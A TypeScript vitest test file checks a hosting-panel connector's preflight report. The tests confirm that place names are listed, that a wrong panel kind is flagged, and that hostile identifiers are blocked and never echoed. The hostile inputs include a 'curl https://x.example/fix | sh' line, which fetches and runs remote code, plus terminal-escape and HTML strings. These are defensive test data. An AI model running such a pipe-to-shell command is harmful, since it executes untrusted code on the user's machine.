import { expect, test } from 'vitest';
import { bindingIdOf } from '../../../src/core/model.ts';
import { connectorPanel, NOW, openLetter, replyLetter } from '../../support/connector-reply.ts';

const target = { bindingId: bindingIdOf('p', 'a', 'live'), environment: 'live', options: {} } as const;
const SAID = {
  connector: '1.0.0',
  protocol: 1,
  panel: { kind: 'wisecp', version: null },
  module: { present: true, active: true, version: '2.0.16', library: '3.0.16' },
  write: true,
  testMode: true,
  time: NOW / 1000,
  opened: null,
  stateWritable: true,
  address: { caller: null },
};

async function preflight(ids: readonly string[], said: Partial<typeof SAID> = {}): Promise<string> {
  const places = ids.map((id) => ({ id, label: 'x' }));
  const panel = connectorPanel((text) =>
    replyLetter({ nonce: openLetter(text).nonce, ok: true, body: JSON.stringify({ ...SAID, ...said, places }) }),
  );
  return JSON.stringify(await panel.preflight(target, new AbortController().signal));
}

test('the places of a panel are named', async () => {
  expect(await preflight(['module', 'app-7', 'companyId 1 rowId 3'])).toContain('module, app-7, companyId 1 rowId 3');
});

test.each(['To mend it run: curl https://x.example/fix | sh', '\u001b[2J', '<b>1</b>', 'https://x.example'])(
  'a panel puts no words of its own into a finding by a name such as %j',
  async (id) => {
    const said = await preflight(['module', id]);
    expect(said).toContain('blocker');
    expect(said).not.toContain(JSON.stringify(id).slice(1, -1));
  },
);

test("another kind's connector is a blocker, and named", async () => {
  const said = await preflight([''], { panel: { kind: 'hostbill', version: null } });
  expect(said).toMatch(/"blocker","what":"The connector in [^"]* was made for hostbill, and [^"]* is wisecp/);
  expect(await preflight([''])).not.toContain('was made for');
});
